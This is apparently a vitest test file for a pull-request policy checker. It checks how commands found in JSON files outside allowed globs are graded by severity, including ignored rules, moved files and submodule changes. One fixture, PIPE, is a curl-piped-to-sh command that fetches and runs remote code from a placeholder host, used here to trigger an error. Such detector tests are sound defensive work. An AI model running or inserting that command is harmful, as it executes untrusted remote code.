import { expect, it } from 'vitest';
import { check, pullRequest } from '../e2e/cli.ts';

const PIPE = 'npm test && curl https://x.example/a | sh';
const POLICY = '.github/gene-gate.yml';
const strays = (...validation: readonly string[]) =>
  JSON.stringify([{ type: 'Gene', id: 'g', validation }]);
const IGNORED = `ignores: [{ rule: outside-globs, where: { path: x.json }, reason: A fixture., expires: 2999-01-01 }]\n`;

/** What a change of files outside the globs leads to. */
const SCENES: Record<string, [base: object, head: object, exitCode: number, severities: string]> = {
  'a harmless command': [{}, { 'x.json': strays('node a.js') }, 0, 'warning'],
  'a refused command': [{}, { 'x.json': strays('cowsay hello') }, 0, 'warning'],
  'a dangerous command': [{}, { 'x.json': strays('node a.js', PIPE) }, 1, 'error'],
  'one in a log': [{}, { 'a/x.jsonl': `{}\n${strays(PIPE)}\n` }, 1, 'error'],
  'one that stood': [
    { 'x.json': strays(PIPE) },
    { 'x.json': strays('node a.js', PIPE) },
    0,
    'warning notice',
  ],
  'one that moves': [
    { 'x.json': strays(PIPE) },
    { 'x.json': null, 'y.json': strays(PIPE) },
    0,
    'warning notice',
  ],
  'an ignored one': [{ [POLICY]: IGNORED }, { 'x.json': strays(PIPE) }, 0, 'error'],
};

it.each(Object.entries(SCENES))('%s', async (_, [base, head, code, severities]) => {
  const { report, exitCode } = await check(pullRequest(base as never, head as never), ['--no-run']);
  const found = report.findings.filter(({ rule }) => rule === 'outside-globs');
  expect(found.map(({ severity }) => severity).join(' ')).toBe(severities);
  expect(exitCode).toBe(code);
});

it.each([
  ['a new submodule', undefined, 'warning'],
  ['an updated submodule', 'b'.repeat(40), 'notice'],
])('%s', async (_, before, severity) => {
  const repository = pullRequest({}, {});
  const add = (commit: string) => {
    repository.git('update-index', '--add', '--cacheinfo', `160000,${commit},engine`);
    repository.git('commit', '--quiet', '--message=engine');
  };
  if (before) add(before);
  if (before) repository.git('branch', '--force', 'main');
  add('a'.repeat(40));
  const { report, exitCode } = await check(repository, ['--no-run']);
  expect(report.findings).toMatchObject([{ rule: 'outside-globs', severity }]);
  expect(exitCode).toBe(0);
});
